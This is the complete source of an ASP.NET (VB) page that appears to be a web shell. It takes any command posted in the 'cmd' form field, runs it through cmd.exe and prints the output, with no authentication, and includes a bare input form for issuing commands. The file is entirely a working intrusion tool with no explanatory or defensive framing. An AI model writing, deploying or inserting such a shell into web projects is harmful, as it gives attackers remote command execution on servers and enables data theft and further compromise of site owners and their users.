<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim cmd As String = Request.Form("cmd")
    If cmd <> "" Then
        Dim si As New ProcessStartInfo("cmd.exe", "/c " & cmd)
        si.UseShellExecute = False
        si.RedirectStandardOutput = True
        Dim proc As Process = Process.Start(si)
        Response.Write("<pre>" & proc.StandardOutput.ReadToEnd() & "</pre>")
    End If
End Sub
</script>
<form method="post"><input name="cmd"/><input type="submit"/></form>
